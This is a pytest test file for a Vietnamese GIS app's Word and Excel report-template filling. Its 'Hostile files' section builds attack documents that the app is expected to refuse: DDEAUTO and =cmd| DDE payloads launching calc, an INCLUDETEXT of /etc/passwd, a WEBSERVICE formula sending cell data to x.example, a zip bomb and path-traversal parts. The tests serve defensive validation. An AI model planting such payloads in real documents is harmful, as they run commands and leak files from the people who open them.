"""Offices' own templates: made here as an office makes them, filled, and read again by python-docx and openpyxl."""

import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from docx import Document
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from flask_babel import force_locale
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from gis import db, model, report, templates
from gis.errors import BadRows, UnreadableFile
from tests import factories as make
from tests.conftest import engine_of, serving
from tests.people import Browser, invite, signed_in
from webmap.reports import fields as listed
from webmap.reports import fill, starters
from webmap.reports.content import lay_out
from webmap.reports.fields import Fields, Values
from webmap.reports.template_pages import fields_of

PERIOD = "tp-lang-son", date(2022, 1, 1), date(2022, 10, 24)
ASKED = {"unit": "h-thu", "from": "2024-01-01", "to": "2024-03-31"}
NOTICE = "Số liệu minh họa, không phải số liệu chính thức."
PARK = "cong-vien-bo-song-ky-cung"


# Templates as offices make them.


def word(*paragraphs: str, rows: tuple[tuple[str, ...], ...] = (), then=None) -> bytes:
    """Make a DOCX of paragraphs and a table; `|` parts a text into runs, as Word does when somebody edits it."""
    document = Document()
    for text in paragraphs:
        paragraph = document.add_paragraph()
        for part in text.split("|"):
            paragraph.add_run(part)
    if rows:
        table = document.add_table(len(rows), len(rows[0]))
        for row, texts in zip(table.rows, rows, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text
    if then:
        then(document)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def sheet(cells: dict[str, object], *, names: dict[str, str] | None = None, then=None) -> bytes:
    book = Workbook()
    book.active.title = "Biểu"
    for place, value in cells.items():
        book.active[place] = value
    for name, place in (names or {}).items():
        book.defined_names[name] = DefinedName(name, attr_text=f"'Biểu'!{place}")
    if then:
        then(book.active)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def merge_field(paragraph, *pieces: str, shown: str = "«…»") -> None:
    """Add a merge field as Word keeps it: begin, an instruction in pieces, what it shows, end."""
    for kind in ("begin", *pieces, "separate", None, "end"):
        run = paragraph.add_run()
        if kind in ("begin", "separate", "end"):
            mark = OxmlElement("w:fldChar")
            mark.set(qn("w:fldCharType"), kind)
            run._r.append(mark)
        elif kind is None:
            run.text, run.bold = shown, True
        else:
            said = OxmlElement("w:instrText")
            said.text = kind
            run._r.append(said)


def text_box(paragraph, text: str) -> None:
    paragraph.add_run()._r.append(
        parse_xml(
            f'<w:pict {nsdecls("w")} xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><w:txbxContent>'
            f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict>"
        )
    )


def changed(content: bytes, *, add: dict[str, str | bytes] | None = None, **replaced: tuple[str, str]) -> bytes:
    """Give a file with parts added, and texts replaced in parts: `document=("a", "b")`."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            body = old.read(part)
            for name, (one, other) in replaced.items():
                if part.filename.endswith((f"{name}.xml", f"{name}.xml.rels")) and one.encode() in body:
                    body = body.replace(one.encode(), other.encode())
            new.writestr(part.filename, body)
        for name, body in (add or {}).items():
            new.writestr(name, body)
    return file.getvalue()


@pytest.fixture(scope="module")
def filled(sample_app, sample_engine):
    """Fill templates for periods of the sample, as the pages and the command do; each report is built once."""
    kept = {}

    def fill_for(content: bytes, period: tuple = PERIOD) -> fill.Filled:
        with sample_app.test_request_context("/"), force_locale("vi"), db.reading_session(sample_engine) as session:
            if period not in kept:
                unit, since, upto = period
                built = report.build(session, unit=unit, since=since, upto=upto)
                kept[period] = fields_of(session), Values(built, lay_out(built))
            return fill.fill(content, templates.look_at(content), *kept[period])

    return fill_for


@pytest.fixture(scope="module")
def office(make_database):
    """Two districts with a project each, which hers has handed over of; officers of both, a leader, an investor."""
    database = make_database("templates")
    with serving(database, GPMB_OPEN_ACCESS="public") as app, engine_of(database.owner) as engine:
        with db.transaction(engine) as session:
            for n, (code, unit) in enumerate((("du-an-mot", "h-thu"), ("du-an-hai", "h-khac"))):
                ground = make.square(1000 * n, side_m=900)
                district = make.unit(session, slug=unit, level="district", kind="district", name=f"huyện {unit}")
                commune = make.unit(session, slug=f"x-{unit}", parent_id=district.id, shape=ground)
                project = make.project(session, code=code, name=f"Dự án {code}")
                lies_in = {"unit_id": commune.id, "valid": make.ALWAYS}
                session.add(model.ProjectCommune(project_id=project.id, main=True, **lies_in))
                land = make.affected(session, project, case=make.case(session, project), area_m2=Decimal(400))
                session.add(model.ParcelCommune(parcel_id=land.parcel_id, **lies_in))
                make.event(session, project, "handover", date(2024, 2, 1), affected_parcel_id=land.id,
                           area_m2=Decimal(400))  # fmt: skip
            hers, others = {"projects": ["du-an-mot"]}, {"projects": ["du-an-hai"]}
            people = {
                "hers": ("officer", hers), "other": ("officer", {}), "elsewhere": ("officer", others),
                "leader": ("leader", {}), "investor": ("investor", hers),
            }  # fmt: skip
            invite(session, people)
        app.owner = engine
        yield app


@pytest.fixture(scope="module")
def officer(office):
    return signed_in(office, "hers")


def send(browser: Browser, content: bytes, file_name: str, name: str = "Báo cáo tháng", **more):
    return browser.send("/reports/templates", file=(io.BytesIO(content), file_name), name=name, **more)


_keys = iter(range(10**6))


def kept(browser: Browser, content: bytes, kind: str, name: str) -> str:
    """Send a template in, and give the address of its page."""
    answer = send(browser, content, f"mau.{kind}", name, key=f"k{next(_keys)}")
    assert answer.status_code == 302, re.findall(r'(?s)id="problem">.*?</div>', answer.text)
    return answer.headers["Location"]


@pytest.fixture(scope="module")
def fields():
    return Fields(["du-an-mot", PARK])


# Filling.


def test_a_template_of_word_is_filled_wherever_its_fields_stand(filled):
    """Golden: 169.352,2 m² of 389 households and one organisation, 01/01-24/10/2022."""

    def more(document):
        merge_field(document.add_paragraph("Trộn thư: "), " MERGE", 'FIELD "ban_giao', '.ho" \\* MERGEFORMAT ')
        simple = OxmlElement("w:fldSimple")
        simple.set(qn("w:instr"), " MERGEFIELD ban_giao.to_chuc ")
        document.add_paragraph("Tổ chức: ")._p.append(simple)
        section = document.sections[0]
        section.header.paragraphs[0].text = "{{don_vi}} – {{tu_ngay}}"
        section.footer.paragraphs[0].text = "Đến {{den_ngay}}"
        text_box(document.add_paragraph("Khung: "), "{{ban_giao.so_du_an}} dự án")

    content = word(
        "Bàn giao {|{ban_giao|.dien_tich|_m2}|} m² của {{ ban_giao.ho }} hộ, {{ban_giao.to_chuc}} tổ chức.",
        f"Công viên: {{{{du_an.{PARK}.ban_giao.ho}}}} hộ; mục tiêu {{{{trong_diem.{PARK}.muc_tieu}}}}.",
        rows=(("STT", "Dự án", "m²"),
              ("{{cac_du_an.stt}}", "{{cac_du_an.ten}}", "{{cac_du_an.ban_giao.dien_tich_m2}}"),
              ("", "Cộng", "{{ban_giao.dien_tich_m2}}")),
        then=more,
    )  # fmt: skip
    document = Document(io.BytesIO(filled(content).body))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert texts[0] == NOTICE, "sample figures say so on top, whatever the template says"
    assert texts[1] == "Bàn giao 169.352,2 m² của 389 hộ, 01 tổ chức."
    assert texts[2].startswith("Công viên: 79 hộ; mục tiêu 100 % đến ngày 31/12/2022")
    assert "Trộn thư: 389" in texts
    assert "Tổ chức: 01" in texts
    assert document.sections[0].header.paragraphs[0].text == "thành phố Lạng Sơn – 01/01/2022"
    assert document.sections[0].footer.paragraphs[0].text == "Đến 24/10/2022"
    assert "22 dự án" in "".join(document.element.body.itertext())
    rows = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    assert len(rows) == 34 + 2
    areas = {row[1]: row[2] for row in rows}
    assert areas["Khách sạn - Sân golf Hoàng Đồng"] == "36.899,53"
    assert areas["Cộng"] == "169.352,2"
    bold = [run.text for paragraph in document.paragraphs for run in paragraph.runs if run.bold]
    assert "389" in bold, "a merge field keeps the style of what it showed"


def test_the_text_comes_with_true_footnotes_beside_those_of_the_template(filled):
    own = Document(io.BytesIO(word("{{van_ban}}")))
    from webmap.reports.files import add_footnotes

    add_footnotes(own, ["Của mẫu"])
    file = io.BytesIO()
    own.save(file)
    body = filled(file.getvalue()).body
    texts = [paragraph.text for paragraph in Document(io.BytesIO(body)).paragraphs]
    assert any(
        "389 hộ gia đình, cá nhân và 01 tổ chức thuộc 22 dự án; diện tích 169.352,2\u00a0m²" in text for text in texts
    )
    packed = zipfile.ZipFile(io.BytesIO(body))
    notes = packed.read("word/footnotes.xml").decode()
    told = re.findall(r'<w:footnote w:id="(\d+)"', notes)
    assert told == [str(n) for n in range(1, len(told) + 1)]
    assert "Của mẫu" in notes
    assert "đoạn cầu Đông Kinh - khách sạn Đông Kinh) (79 hộ)" in notes
    referred = re.findall(r'footnoteReference w:id="(\d+)"', packed.read("word/document.xml").decode())
    assert referred == told[1:]


def test_a_workbook_is_filled_and_its_formulas_follow(filled):
    def more(page):
        page.merge_cells("A12:C12")
        page.row_dimensions[12].height = 40
        page.oddHeader.center.text = "{{don_vi}}"
        choice = DataValidation("list", formula1="$B$8:$B$9", sqref="C5")
        page.add_data_validation(choice)
        page.conditional_formatting.add("B5:B5", starters_rule())

    def starters_rule():
        from openpyxl.formatting.rule import CellIsRule

        return CellIsRule(operator="greaterThan", formula=["$B$6"])

    content = sheet(
        {"A1": "Kỳ {{ky_bao_cao}}", "B1": "{{tu_ngay}}", "B2": 0, "B3": "=B2/10000", "A4": "Dự án",
         "A5": "{{cac_du_an.ten}}", "B5": "{{cac_du_an.ban_giao.dien_tich_m2}}", "C5": "=B5/B$6",
         "A6": "Cộng", "B6": "=SUM(B5:B5)", "A7": "{{cac_xa.ten}}", "B7": "{{cac_xa.ban_giao.ho}}",
         "B8": "=SUM(B7:B7)", "B9": '=IF(B6=\'Biểu\'!B2,"khớp B5","lệch")', "A12": "{{chi_tra.so_tien_dong}}"},
        names={"ban_giao.dien_tich_m2": "$B$2", "cua_rieng": "$B$6"}, then=more,
    )  # fmt: skip
    page = load_workbook(io.BytesIO(filled(content).body)).active
    assert page["A1"].value == "Kỳ từ ngày 01/01/2022 đến ngày 24/10/2022"
    assert page["B1"].value == datetime(2022, 1, 1)
    assert page["B1"].number_format == "dd/mm/yyyy"
    assert page["B2"].value == 169352.2
    assert page["B3"].value == "=B2/10000"
    projects, communes = 34, 7
    last = 4 + projects
    assert page.cell(last + 1, 2).value == f"=SUM(B5:B{last})"
    assert page.cell(last, 3).value == f"=B{last}/B${last + 1}", "a formula of the row is its own in each"
    assert round(sum(page.cell(row, 2).value for row in range(5, last + 1)), 2) == 169352.2
    first = last + 2
    assert page.cell(first + communes, 2).value == f"=SUM(B{first}:B{first + communes - 1})"
    assert page.cell(first + communes + 1, 2).value == f'=IF(B{last + 1}=\'Biểu\'!B2,"khớp B5","lệch")'
    down = 12 + projects - 1 + communes - 1
    assert [str(area) for area in page.merged_cells.ranges] == [f"A{down}:C{down}"]
    assert page.row_dimensions[down].height == 40
    assert page.parent.defined_names["cua_rieng"].attr_text == f"'Biểu'!$B${last + 1}"
    (area,) = page.conditional_formatting
    assert str(area.sqref) == f"B5:B{last}"
    assert area.rules[0].formula == [f"$B${last + 1}"]
    (choice,) = page.data_validations.dataValidation
    assert (str(choice.sqref), choice.formula1) == (f"C5:C{last}", f"$B${first + communes}:$B${first + communes + 1}")
    assert page.oddHeader.center.text == "thành phố Lạng Sơn"
    assert page.oddHeader.left.text == NOTICE


def test_what_is_not_on_record_is_said_and_listed(filled):
    content = word("{{khau_tru.so_tien_dong}}", "{{tam_ung.so_tien_dong}}",
                   rows=(("{{cac_trong_diem.ten}}", "{{cac_trong_diem.vuong_mac}}"),))  # fmt: skip
    (told,) = filled(content).missing
    assert re.fullmatch(r"cac_trong_diem\.vuong_mac \(\d+ trong 17 dòng\)", told)
    # A district without any record in the period, and no key project.
    quiet = filled(content, ("h-binh-gia", date(2020, 6, 1), date(2020, 6, 30)))
    assert quiet.missing == ("khau_tru.so_tien_dong", "tam_ung.so_tien_dong", "cac_trong_diem.*")
    document = Document(io.BytesIO(quiet.body))
    texts = [paragraph.text for paragraph in document.paragraphs]
    assert texts[1:] == ["chưa có số liệu", "chưa có số liệu"], "missing is not zero"
    assert [cell.text for cell in document.tables[0].rows[0].cells] == ["chưa có số liệu", ""]


def test_what_is_filled_in_never_becomes_a_formula_or_a_field(office, fields):
    """A project may be called as it likes."""

    class Bad(Values):
        def __init__(self):
            self.laid = type("Laid", (), {"illustrative": False, "tables": ()})()

        def single(self, key):
            return "=HYPERLINK(A1)" if key == "don_vi" else "{{don_vi}}"

        def rows(self, name):
            return [{"ten": bad, "stt": 1} for bad in ("=1+1", "+1", "@x", "{{nguon}}", "a\x0bb")]

    with office.test_request_context("/?lang=vi"):
        cells = {"A1": "{{don_vi}}", "A2": "{{nguon}}", "A3": "{{cac_du_an.ten}}"}
        told = fill.fill(sheet(cells), "xlsx", fields, Bad())
        page = load_workbook(io.BytesIO(told.body)).active
        assert [cell.value for cell in page["A"]] == ["=HYPERLINK(A1)", "{{don_vi}}", "=1+1", "+1", "@x", "{{nguon}}",
                                                      "ab"]  # fmt: skip
        assert {cell.data_type for cell in page["A"]} == {"s"}
        told = fill.fill(word("{{nguon}} {{don_vi}}"), "docx", fields, Bad())
        assert Document(io.BytesIO(told.body)).paragraphs[0].text == "{{don_vi}} =HYPERLINK(A1)"


@pytest.mark.parametrize("form", ["docx", "xlsx"])
def test_the_template_to_start_from_is_one(officer, filled, form):
    file = filled(officer.client.get(f"/reports/templates/starter.{form}").data).body
    if form == "docx":
        document = Document(io.BytesIO(file))
        assert document.tables[0].cell(0, 0).text.startswith("thành phố Lạng Sơn")
        assert any("169.352,2 m² đất của 389 hộ" in paragraph.text for paragraph in document.paragraphs)
        assert len(document.tables[1].rows) == 1 + 34
    else:
        book = load_workbook(io.BytesIO(file))
        assert len(book.sheetnames) == 1 + len(starters.TABLES)
        first = book.worksheets[0]
        named = next(book.defined_names["ban_giao.dien_tich_m2"].destinations)[1].replace("$", "")
        assert first[named].value == 169352.2
    assert b"{{" not in b"".join(
        packed.read(name) for packed in [zipfile.ZipFile(io.BytesIO(file))] for name in packed.namelist()
    )


# Errors, by field.


def nested_list(document):
    table = document.add_table(1, 1)
    table.cell(0, 0).text = "{{cac_xa.ten}}"
    table.cell(0, 0).add_table(1, 1).cell(0, 0).text = "{{cac_du_an.ten}}"


BROKEN = {
    "a field there is not, with the one meant": (
        word("{{ban_giao.so_ho}}"), "ban_giao.so_ho", "đoạn 1", "“ban_giao.ho”"),
    "in a table": (word(rows=(("a", "{{tungay}}"),)), "tungay", "bảng 1, dòng 1, cột 2", "“tu_ngay”"),
    "with marks and blanks": (word("", "{{Đơn vị}}"), "Đơn vị", "đoạn 2", "“don_vi”"),
    "a measure the step has not": (
        word("{{kiem_dem.so_tien_dong}}"), "kiem_dem.so_tien_dong", "đoạn 1", "“kiem_dem."),
    "a project there is not": (
        word("{{du_an.cong-vien-bo-song.ban_giao.ho}}"), "du_an.cong-vien-bo-song.ban_giao.ho", "đoạn 1",
        f"“du_an.{PARK}.ban_giao.ho”"),
    "nothing like it": (word("{{qwertyuiop}}"), "qwertyuiop", "đoạn 1", "danh sách trường"),
    "not closed": (word("{{don_vi} và"), "{{don_vi}", "đoạn 1", "đóng"),
    "not closed before the next": (word("{{don_vi {{nam}}"), "{{don_vi", "đoạn 1", "đóng"),
    "not opened": (word("x {don_vi}}"), "{don_vi}}", "đoạn 1", "mở"),
    "no name": (word("{{ }}"), "{{ }}", "đoạn 1", "không có tên"),
    "an instruction": (word("{% for x in y %}"), "{% for x in y %}", "đoạn 1", "lệnh"),
    "a list outside a row": (word("{{cac_du_an.ten}}"), "cac_du_an.ten", "đoạn 1", "dòng của bảng"),
    "two lists in a row": (
        word(rows=(("{{cac_du_an.ten}}", "{{cac_xa.ten}}"),)), "cac_xa.ten", "bảng 1, dòng 1", "cac_du_an, cac_xa"),
    "a list in a list": (word("{{nam}}", then=nested_list), "cac_du_an.ten", "bảng 1, dòng 1", "bên trong"),
    "the text among words": (word("Sau đây: {{van_ban}}"), "van_ban", "đoạn 1", "đoạn riêng"),
    "in a header": (
        word("{{nam}}", then=lambda d: d.sections[0].header.paragraphs[0].add_run("{{nom}}")), "nom",
        "đầu trang", "“nam”"),
    "in a merge field": (
        word("{{nam}}", then=lambda d: merge_field(d.add_paragraph(), " MERGEFIELD don_bi ")), "don_bi", "đoạn 2",
        "“don_vi”"),
    "in a text box": (word("{{nam}}", then=lambda d: text_box(d.add_paragraph(), "{{dn_vi}}")), "dn_vi",
                      "khung chữ", "“don_vi”"),
    "a cell": (sheet({"C7": "{{ban_giao.so_ho}}"}), "ban_giao.so_ho", "trang tính “Biểu”, ô C7", "“ban_giao.ho”"),
    "in a formula": (sheet({"A1": "{{nam}}", "B2": '="{{don_vi}}"&A1'}), "don_vi", "ô B2", "công thức"),
    "a defined name": (
        sheet({"A1": "{{nam}}"}, names={"ban_giao.so_hoo": "$B$2"}), "ban_giao.so_hoo", "tên vùng", "“ban_giao.ho”"),
    "a name of several cells": (
        sheet({"A1": "{{nam}}"}, names={"ban_giao.ho": "$B$2:$C$4"}), "ban_giao.ho", "tên vùng", "một ô"),
    "more rows that repeat than any": (
        sheet({f"A{n}": "{{cac_xa.ten}}" for n in range(1, 23)}), "cac_xa.…", "dòng 21", "tách sổ tính"),
    "a merged cell over the row": (
        sheet({"A2": "{{cac_xa.ten}}"}, then=lambda s: s.merge_cells("C1:C3")), "cac_xa.…", "dòng 2", "ô gộp"),
}  # fmt: skip


@pytest.mark.parametrize("name", BROKEN)
def test_an_error_is_told_with_its_field_and_place(office, fields, name):
    content, field, where, said = BROKEN[name]
    with office.test_request_context("/?lang=vi"), pytest.raises(BadRows) as refused:
        fill.check(content, templates.look_at(content), fields)
    problem = refused.value.problems[0]
    assert problem.field == field
    assert where in problem.where
    assert said in problem.said


def test_a_template_with_errors_is_not_kept_and_the_page_names_them(officer):
    content = word("{{ban_giao.so_ho}} và {{don_vi", rows=(("{{tungay}}",),))
    answer = send(officer, content, "sai.docx", "Sai <b>", unit="h-thu", key="sai")
    assert answer.status_code == 422
    assert [re.sub("<.*?>", "", f) for f in re.findall("<li><code>.*?</code>", answer.text)] == [
        "{{don_vi", "ban_giao.so_ho", "tungay"]  # fmt: skip
    assert 'value="Sai &lt;b&gt;"' in answer.text, "what was entered stays"
    assert '<option value="h-thu" selected>' in answer.text
    assert "Sai &lt;b&gt;</a>" not in officer.get("/reports/templates").text
    assert "chưa có trường nào" in send(officer, word("Không có"), "x.docx", key="trong").text.lower()


# Hostile files.

RELATIONSHIP = '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
DOCX, XLSX = word("{{nam}}"), sheet({"A1": "{{nam}}"})


def linked(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    added = RELATIONSHIP.format(kind) + f'Target="{target}"{mode}/></Relationships>'
    return changed(DOCX, document=("</Relationships>", added))


def fielded(*pieces: str) -> bytes:
    return word("{{nam}}", then=lambda d: merge_field(d.add_paragraph(), *pieces))


HOSTILE = {
    "empty": (b"", "rỗng"),
    "another file": (b"%PDF-1.7\n%%EOF", "DOCX"),
    "a zip of something else": (changed(DOCX).replace(b"[Content_Types].xml", b"[Content_Typos].xml"), "DOCX"),
    "a template of Word": (
        changed(DOCX, **{"[Content_Types]": ("document.main+xml", "template.main+xml")}), ".dotx"),
    "macros by type": (
        changed(DOCX, **{"[Content_Types]": (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml")}), "macro"),
    "macros as a part": (changed(XLSX, add={"xl/vbaProject.bin": b"x"}), "vbaProject.bin"),
    "a macro sheet": (changed(XLSX, add={"xl/macrosheets/sheet1.xml": "<x/>"}), "macrosheets"),
    "ActiveX": (changed(DOCX, add={"word/activeX/activeX1.xml": "<x/>"}), "activeX1.xml"),
    "an embedded file": (changed(DOCX, add={"word/embeddings/oleObject1.bin": b"x"}), "oleObject1.bin"),
    "a template from elsewhere": (linked("attachedTemplate", "https://x.example/t.dotm"), "Normal"),
    "a picture from elsewhere": (linked("image", "https://x.example/a.png"), "https://x.example/a.png"),
    "a picture from the network": (linked("image", r"\\x.example\a\a.png", ""), "x.example"),
    "a link that runs": (linked("hyperlink", "javascript:alert(1)"), "javascript:alert(1)"),
    "another document": (linked("aFChunk", "a.html", ""), "a.html"),
    "recipients": (changed(DOCX, settings=("<w:zoom", "<w:mailMerge/><w:zoom")), "trộn thư"),
    "DDE": (fielded(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "DDEAUTO"),
    "DDE in pieces": (fielded(" DD", "EAUTO", ' cmd "/k calc" '), "DDEAUTO"),
    "another file's text": (fielded(' INCLUDETEXT "file:///etc/passwd" '), "INCLUDETEXT"),
    "a picture by field": (fielded(' INCLUDEPICTURE "http://x.example/a.png" '), "INCLUDEPICTURE"),
    "entities": (
        changed(DOCX, document=("<w:document ", '<!DOCTYPE x [<!ENTITY a "b">]><w:document ')), "thực thể"),
    "other workbooks": (changed(XLSX, add={"xl/externalLinks/externalLink1.xml": "<x/>"}), "externalLink1.xml"),
    "a connection": (changed(XLSX, add={"xl/connections.xml": "<x/>"}), "connections.xml"),
    "a formula of DDE": (sheet({"A1": "{{nam}}", "A2": "=cmd|'/c calc'!A0"}), "cmd"),
    "a formula that fetches": (sheet({"A1": '=WEBSERVICE("http://x.example?"&A2)'}), "WEBSERVICE"),
    "another workbook in a formula": (sheet({"A1": "='[1]Trang'!A1"}), "[1]"),
    "a chart": (changed(XLSX, add={"xl/charts/chart1.xml": "<x/>"}), "biểu đồ"),
    "a shape": (
        changed(XLSX, add={"xl/drawings/drawing1.xml":
            '<a:wsDr xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><a:sp/></a:wsDr>'}),
        "drawing1.xml"),
    "a bomb": (changed(DOCX, add={"word/media/a.png": b"\0" * (21 * templates.MIB)}), "giải nén"),
    "more parts than any": (changed(DOCX, add={f"word/media/{n}.png": b"" for n in range(1001)}), "giải nén"),
    "a part outside": (changed(DOCX, add={"../../etc/x.png": b"x"}), "đóng gói"),
    "a part under another name": (
        changed(
            DOCX, **{"[Content_Types]": (
                "</Types>", '<Override PartName="/word/h.png" ContentType="application/vnd.openxmlformats-office'
                'document.wordprocessingml.header+xml"/></Types>')},
            add={"word/h.png": f'<w:hdr {nsdecls("w")}><w:p><w:fldSimple w:instr=" DDE cmd x "/></w:p></w:hdr>'}),
        "DDE cmd x"),
    "broken XML": (changed(DOCX, document=("</w:body>", "</w:bod>")), "document.xml"),
    "too large": (DOCX + b"\0" * (templates.MOST_MIB * templates.MIB), "MiB"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_in_words(office, name):
    from webmap.errors import user_message

    content, said = HOSTILE[name]
    with office.test_request_context("/?lang=vi"), pytest.raises(UnreadableFile) as refused:
        templates.look_at(content)
    with office.test_request_context("/?lang=vi"):
        assert said in user_message(refused.value)


def test_a_formula_with_columns_of_a_table_and_another_sheet_may_stay(office):
    assert templates.look_at(sheet({"A1": "=SUM(Bang1[m2])+Khac!B2", "A2": '="a|b [1]x!"&B1'})) == "xlsx"


def test_a_link_to_click_on_may_stay(office):
    assert templates.look_at(linked("hyperlink", "mailto:tp@langson.example")) == "docx"


# Keeping.


def test_versions_are_kept_used_in_issued_reports_and_withdrawn(office, officer):
    name = "Báo cáo quý"
    content = word("Bản một {{ban_giao.ho}}")  # made once: a file made again holds the second it was made in
    first = kept(officer, content, "docx", name)
    assert "phiên bản 1" in officer.get(first).text
    again = send(officer, content, "x.docx", name, key="again")
    assert "đã được lưu" in again.text
    second = kept(officer, word("Bản hai {{ban_giao.ho}}"), "docx", name)
    old = officer.client.get(f"{first}/filled", query_string=ASKED)
    assert old.status_code == 409, "only the newest is filled"
    as_sent = Document(io.BytesIO(officer.client.get(f"{first}/file").data))
    assert as_sent.paragraphs[0].text == "Bản một {{ban_giao.ho}}"

    page = officer.client.get("/reports", query_string=ASKED).text
    number = second.rpartition("/")[2]
    assert f'<option value="{number}">{name} (DOCX)</option>' in page
    led = officer.client.get("/reports/templates/choose", query_string=ASKED | {"template": number})
    assert led.headers["Location"].startswith(second)
    known_at = re.search(r'name="known_at" value="([^"]+)"', page)[1]
    for wrong, status in (("x", 400), ("99999", 404)):
        assert officer.send("/reports", page="/account", **ASKED, key="w", template=wrong).status_code == status
    issued = officer.send("/reports", page="/account", **ASKED, known_at=known_at, key="issue", template=number)
    assert issued.status_code == 302, re.findall(r'id="problem">(.*?)<', issued.text)
    report = issued.headers["Location"]
    shown = officer.get(report).text
    assert f"{name} (docx), 2" in shown
    wrong = officer.send("/reports", page="/account", **ASKED, key="no reason", template=number)
    assert wrong.status_code == 400
    assert f'value="{number}" checked' in wrong.text, "what was ticked stays"
    frozen = officer.client.get(f"{report}/template.docx")
    assert Document(io.BytesIO(frozen.data)).paragraphs[0].text == "Bản hai 01"
    assert frozen.headers["ETag"].strip('"') in _hashes(office)

    refused = officer.send(f"{second}/withdraw", page=second, reason="", key="w0")
    assert refused.status_code == 400
    assert officer.send(f"{second}/withdraw", page=second, reason="Thay mẫu", key="w1").status_code == 302
    assert officer.client.get(f"{second}/filled", query_string=ASKED).status_code == 404
    assert f"{name} (DOCX)" not in officer.client.get("/reports", query_string=ASKED).text
    assert "Thay mẫu" in officer.get(f"/reports/templates/{int(number) + 1}").text
    assert officer.client.get(f"{report}/template.docx").data == frozen.data, "an issued report stays as it is"
    third = kept(officer, word("Bản ba {{ban_giao.ho}}"), "docx", name)
    assert "phiên bản 4" in officer.get(third).text, "sent in again, it is back"


def _hashes(office) -> set[str]:
    from sqlalchemy import text

    with db.reading_session(office.owner) as session:
        return set(session.scalars(text("select sha256 from issued_file")))


def test_the_command_fills_a_template_by_its_name(office, officer, tmp_path):
    kept(officer, word("{{ban_giao.dien_tich_m2}} {{khau_tru.so_tien_dong}}"), "docx", "Lệnh")
    file = tmp_path / "a.docx"
    asked = ["report", "--unit", "h-thu", "--from", "2024-01-01", "--to", "2024-03-31", "--out", str(file)]
    done = office.test_cli_runner().invoke(args=[*asked, "--template", "Lệnh"])
    assert done.exit_code == 0, done.output
    assert Document(file).paragraphs[0].text == "400 0"
    gone = office.test_cli_runner().invoke(args=[*asked, "--template", "Không có"])
    assert gone.exit_code == 1
    assert "Không có" in gone.output


def test_who_keeps_no_records_of_the_unit_keeps_no_templates(office, officer):
    place = kept(officer, word("{{nam}} của huyện"), "docx", "Của huyện")
    for name in ("leader", "other"):
        browser = signed_in(office, name)
        assert browser.get(place).status_code == 200, "whoever works at the desk may use it"
        assert send(browser, word("{{nam}}"), "a.docx", "Lạ", key=name).status_code == 403
        assert browser.send(f"{place}/withdraw", page="/account", reason="x", key="x").status_code == 403
    elsewhere = signed_in(office, "elsewhere")
    refused = send(elsewhere, word("{{nam}}"), "a.docx", "Lạ", key="e1", unit="h-thu")
    assert refused.status_code == 403
    assert "problem" in refused.text
    assert send(elsewhere, word("{{nam}}"), "a.docx", "Huyện khác", key="e2", unit="h-khac").status_code == 302
    assert send(officer, word("{{nam}} "), "a.docx", "Huyện ta", key="e3", unit="h-thu").status_code == 302
    of_hers = re.search(r'/reports/templates/(\d+)">Huyện ta<', officer.get("/reports/templates").text)[1]
    gone = elsewhere.send(f"/reports/templates/{of_hers}/withdraw", page="/account", reason="x", key="e4")
    assert gone.status_code == 403
    taken = send(elsewhere, word("{{nam}} của huyện khác"), "a.docx", "Huyện ta", key="e5")
    assert taken.status_code == 403, "nor does a name of another office become theirs"
    investor = signed_in(office, "investor")
    for path in ("/reports/templates", "/reports/templates/fields", place, f"{place}/filled", f"{place}/file"):
        assert investor.get(path).status_code == 403
        assert "/sign-in" in Browser(office).get(path).headers["Location"]


def test_the_list_of_fields_shows_what_they_hold_and_finds(officer):
    def look(wanted: str) -> dict[str, str]:
        page = officer.client.get("/reports/templates/fields", query_string=ASKED | {"q": wanted}).text
        return dict(re.findall(r"<code>\{\{(.*?)\}\}</code></td><td>[^<]*</td><td[^>]*>([^<]*)</td>", page))

    found = look("bàn giao m2")
    assert found["ban_giao.dien_tich_m2"] == "400"
    assert found["cac_du_an.ban_giao.dien_tich_m2"] == "1 dòng"
    assert not any("chi_tra" in key for key in found)
    assert look("du-an-mot")["du_an.du-an-mot.ban_giao.ho"] == "1"
    assert look("du-an-hai")["du_an.du-an-hai.ban_giao.ho"] == "chưa có số liệu", "it is not of the unit"
    everything = officer.get("/reports/templates/fields").text
    assert "du_an.&lt;mã dự án&gt;.ban_giao.ho" in everything
    assert len(re.findall("<code>", everything)) > 400


def test_every_column_of_the_reports_tables_is_a_field(sample_app, sample_session):
    """A new column of the tables that stand as they are gets a name, or the list of fields is not whole."""
    with sample_app.test_request_context("/?lang=en"):
        unit, since, upto = PERIOD
        built = report.build(sample_session, unit=unit, since=since, upto=upto)
        tables = {table.key: [title for title, _ in table.columns] for table in lay_out(built).tables}
    for table, columns in listed._OF_TABLES.values():
        assert tables[table] == list(columns.values())
    of_key_projects = {"Key project", "Affected households", "Handed over, households", "Affected m²",
                       "Handed over, m²", "Remaining, households", "Remaining, m²"}  # fmt: skip
    assert set(tables["key_projects"]) - of_key_projects == set(listed._OF_KEY_PROJECT.values())
